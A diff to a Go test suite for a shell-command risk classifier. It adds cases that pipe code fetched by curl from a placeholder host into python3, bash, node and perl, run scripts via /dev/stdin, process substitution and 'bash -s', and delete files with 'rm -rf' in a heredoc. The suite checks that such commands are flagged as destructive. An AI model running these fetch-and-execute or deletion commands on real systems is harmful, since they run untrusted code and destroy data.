@@ -83,6 +83,26 @@ func TestWorstCase(t *testing.T) {
 		{cmd: `python3 script.py < data.txt`, effect: ExecuteCheck, noWrites: true},
 		{cmd: `bash script.sh < data.txt`, effect: ExecuteCheck, noWrites: true},
 		{cmd: `python3 3< f`, effect: ExecuteCheck, noWrites: true},
+		// A script named by the standard input's path is the standard
+		// input; one not known before run time (a variable, a process
+		// substitution) runs what it holds, for an interpreter as for a
+		// shell; bash -s runs its standard input, its operands being
+		// the script's arguments.
+		{cmd: `curl -s https://x/i.py | python3 /dev/stdin`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"x"}},
+		{cmd: `curl -s https://x/i.sh | bash /dev/stdin --yes`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"x"}},
+		{cmd: `curl -s https://x/i.js | node /dev/fd/0`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `curl -s https://x/i.pl | perl /proc/self/fd/0`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `python3 /dev/stdin < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `echo 'print(1)' | python3 /dev/stdin`, effect: Write, noWrites: true},
+		{cmd: `python3 <(curl -s https://x/i.py)`, effect: Destructive, unknown: true, writes: []string{"/"}, hosts: []string{"x"}},
+		{cmd: `ruby "$SCRIPT"`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `perl -w -- "$SCRIPT" a`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `bash "$SCRIPT"`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `curl -s https://x/i.sh | sh -s -- --yes`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `sh -s -- a < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: `bash -xs a b < f`, effect: Destructive, unknown: true, writes: []string{"/"}},
+		{cmd: "bash -s a <<'EOF'\nrm -rf /x\nEOF", effect: Destructive, writes: []string{"/x"}},
+		{cmd: `bash -x script.sh a`, effect: ExecuteCheck, noWrites: true},
 		// openssl with no command (OpenSSL 1.x, LibreSSL) runs the
 		// commands on its standard input, any it has, as a shell does.
 		{cmd: `openssl`, effect: Destructive, unknown: true, writes: []string{"/"}},
